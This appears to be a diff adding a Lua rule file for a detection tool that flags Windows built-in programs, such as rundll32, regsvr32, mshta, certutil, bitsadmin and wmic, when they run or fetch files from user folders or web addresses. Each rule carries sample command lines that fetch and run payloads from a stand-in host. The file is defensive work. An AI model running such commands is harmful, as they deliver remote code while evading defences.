@@ -1,0 +1,177 @@
+-- Programs of Windows that run what others wrote, told to do so with a file from a user's place or an address on the
+-- web. One row, one rule: what the program is called, when its command line counts, and what it then does.
+
+local command = require "kaiseki.command"
+local lineage = require "kaiseki.lineage"
+local say = require "kaiseki.say"
+local windows = require "kaiseki.windows"
+
+-- The first argument that names a file in a user's place.
+local function user_file(each, case)
+    for i = 2, #each.words do
+        local word = each.words[i]:gsub(",.*$", "")
+        if word:find("\\", 1, true) and windows.in_user_place(word, case) then return word end
+    end
+    return nil
+end
+
+-- The first address on the web in the command, without what surrounds it.
+local function url(each)
+    return each.text:match [=[[hH][tT][tT][pP][sS]?://[^%s"')]+]=] or each.text:match [=[[fF][tT][pP]://[^%s"')]+]=]
+end
+
+local function script_text(each)
+    return each.folded:match "javascript:" or each.folded:match "vbscript:"
+end
+
+local function user_file_or_url(each, case)
+    return url(each) or user_file(each, case)
+end
+
+-- rundll32 also runs a library that has another extension, or none.
+local function rundll32_target(each, case)
+    local target = script_text(each) or url(each)
+    if target then return target end
+    local words = table.concat(each.words, " ", 2)
+    return windows.in_user_place(words, case) and (user_file(each, case) or words) or nil
+end
+
+local function certutil_target(each)
+    if each:has("-urlcache", "-verifyctl", "-url") and url(each) then return url(each) end
+    return nil
+end
+
+local function certutil_decoded(each)
+    return each:has("-decode", "-decodehex") and each.words[#each.words] or nil
+end
+
+local function msiexec_target(each, case)
+    local quiet = each:has("/q", "/quiet", "/qn", "/qb", "/passive")
+    return url(each) or (quiet and each:has("/i", "/package", "/y", "/z") and user_file(each, case)) or nil
+end
+
+local function wmic_target(each)
+    if each:says("call") and each:says("create") then return each.text:match "[cC][rR][eE][aA][tT][eE]%s*(.+)$" end
+    return nil
+end
+
+local function wmic_stylesheet(each)
+    local sheet = each.folded:match "/format:%s*\"?([^%s\"]+)"
+    return sheet and (sheet:find("://", 1, true) or sheet:find("%.xsl")) and sheet or nil
+end
+
+local ROWS = {
+    { id = "defense_evasion.rundll32", programs = { "rundll32" }, attack = "T1218.011", target = rundll32_target,
+      what = "has rundll32 run",
+      match = [[rundll32.exe C:\Users\x\AppData\Roaming\a\b.dll, Main]],
+      no_match = "rundll32.exe shell32.dll,Control_RunDLL desk.cpl" },
+    { id = "defense_evasion.regsvr32", programs = { "regsvr32" }, attack = "T1218.010", target = user_file_or_url,
+      what = "has regsvr32 run",
+      match = "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll",
+      no_match = [[regsvr32 /s "C:\Program Files\Tool\tool.dll"]] },
+    { id = "defense_evasion.mshta", programs = { "mshta" }, attack = "T1218.005",
+      target = function(each, case) return script_text(each) or user_file_or_url(each, case) end,
+      what = "has mshta run",
+      match = "mshta http://203.0.113.5/a.hta",
+      no_match = [[mshta "C:\Program Files\Tool\about.hta"]] },
+    { id = "defense_evasion.msiexec", programs = { "msiexec" }, attack = "T1218.007", target = msiexec_target,
+      what = "has msiexec quietly install",
+      match = "msiexec /q /i http://203.0.113.5/a.msi",
+      no_match = [[msiexec /i "C:\Users\x\Downloads\viewer.msi"]] },
+    { id = "defense_evasion.installutil", programs = { "installutil", "regasm", "regsvcs" }, attack = "T1218.004",
+      target = user_file, what = "has a .NET installer run",
+      match = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe /U C:\Users\x\AppData\a.dll]],
+      no_match = [[InstallUtil.exe "C:\Program Files\Service\service.exe"]] },
+    { id = "defense_evasion.msbuild", programs = { "msbuild" }, attack = "T1127.001",
+      target = function(each, case) return not each:has("/nologo") and user_file(each, case) or nil end,
+      what = "has MSBuild run",
+      match = [[MSBuild.exe C:\Users\x\AppData\Local\Temp\a.xml]],
+      no_match = [[MSBuild.exe "C:\Program Files\Build\all.proj"]] },
+    { id = "defense_evasion.cmstp", programs = { "cmstp" }, attack = "T1218.003", target = user_file_or_url,
+      what = "has cmstp run",
+      match = [[cmstp.exe /ni /s C:\Users\x\AppData\Local\Temp\a.inf]],
+      no_match = [[cmstp.exe /u "C:\Windows\System32\vpn.inf"]] },
+    { id = "defense_evasion.odbcconf", programs = { "odbcconf" }, attack = "T1218.008", target = user_file,
+      what = "has odbcconf run",
+      match = [[odbcconf /a {REGSVR C:\Users\Public\a.dll}]],
+      no_match = [[odbcconf /a {REGSVR C:\Windows\System32\odbc.dll}]] },
+    { id = "defense_evasion.indirect", programs = { "forfiles", "pcalua", "scriptrunner", "conhost" },
+      attack = "T1202",
+      target = function(each, case)
+          if each.program == "conhost" and not each:has("--headless") then return nil end
+          return user_file(each, case)
+      end,
+      what = "has a tool of Windows run",
+      match = [[pcalua.exe -a C:\Users\x\AppData\Local\Temp\a.exe]],
+      no_match = [[forfiles /p C:\logs /m *.log /c "cmd /c del @path"]] },
+    { id = "execution.wmic", programs = { "wmic" }, attack = "T1047", target = wmic_target,
+      what = "has WMI start",
+      match = [[wmic process call create "C:\Users\x\a.exe"]],
+      no_match = "wmic os get caption" },
+    { id = "defense_evasion.wmic_stylesheet", programs = { "wmic" }, attack = "T1220", target = wmic_stylesheet,
+      what = "has wmic run style sheet",
+      match = "wmic os get /format:http://203.0.113.5/a.xsl",
+      no_match = "wmic os get caption /format:csv" },
+    { id = "defense_evasion.certutil_decode", programs = { "certutil" }, attack = "T1140", target = certutil_decoded,
+      what = "has certutil decode into",
+      match = [[certutil -decode C:\Users\x\a.txt C:\Users\x\a.exe]],
+      no_match = [[certutil -verify C:\certificates\a.cer]] },
+    { id = "command_and_control.certutil", programs = { "certutil" }, attack = "T1105", target = certutil_target,
+      what = "has certutil download",
+      match = [[certutil -urlcache -split -f http://203.0.113.5/a.exe C:\Users\x\a.exe]],
+      no_match = "certutil -store my" },
+    { id = "command_and_control.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
+      target = function(each)
+          return each:has("/transfer", "/addfile", "/setnotifycmdline") and (url(each) or "a file") or nil
+      end,
+      what = "has bitsadmin transfer",
+      match = [[bitsadmin /transfer job http://203.0.113.5/a.exe C:\Users\x\a.exe]],
+      no_match = "bitsadmin /list" },
+    { id = "command_and_control.curl", programs = { "curl", "wget" }, attack = "T1105",
+      target = function(each, case) return url(each) and user_file(each, case) and url(each) or nil end,
+      what = "has a tool download",
+      match = [[curl -s http://203.0.113.5/a.exe -o C:\Users\x\AppData\Local\Temp\a.exe]],
+      no_match = "curl http://203.0.113.5/status" },
+}
+
+local function runs(row)
+    local programs = {}
+    for _, name in ipairs(row.programs) do programs[name] = true end
+    return function(each, case)
+        return programs[each.program] and row.target(each, case) or nil
+    end
+end
+
+local function example(line)
+    return { operation = "Process Create", path = [[C:\Windows\System32\tool.exe]], ["process.name"] = "a.exe",
+             ["child.command_line"] = line }
+end
+
+for _, row in ipairs(ROWS) do
+    local target = runs(row)
+    rule {
+        id = row.id,
+        title = row.programs[1] .. " used to run or fetch what is not Windows'",
+        severity = "high",
+        attack = { row.attack },
+        description = "A program that Windows ships and everyone trusts " .. row.what:gsub("^has ", "is made to: ")
+            .. " a file from a user's folder or an address on the web.",
+        references = { "https://attack.mitre.org/techniques/" .. row.attack:gsub("%.", "/") .. "/" },
+        false_positives = { "Administrators, and setup programs of per-user products." },
+        author = "kaiseki",
+        match = operation:is "Process Create" & child.command_line:contains(row.programs),
+        on_event = function(event, case)
+            local found = command.first(event.child.command_line, function(each) return target(each, case) end)
+            if found then
+                case:finding { process = lineage.requester(event.process), key = found, event = event }
+            end
+        end,
+        finding = function(finding)
+            local starter = finding.events[1].process
+            local through = starter ~= finding.process and not say.same_program(starter, finding.process)
+                and (", through %s"):format(say.process(starter)) or ""
+            return ("%s %s %s%s"):format(say.process(finding.process), row.what, say.command(finding.key), through)
+        end,
+        examples = { match = { example(row.match) }, no_match = { example(row.no_match) } },
+    }
+end
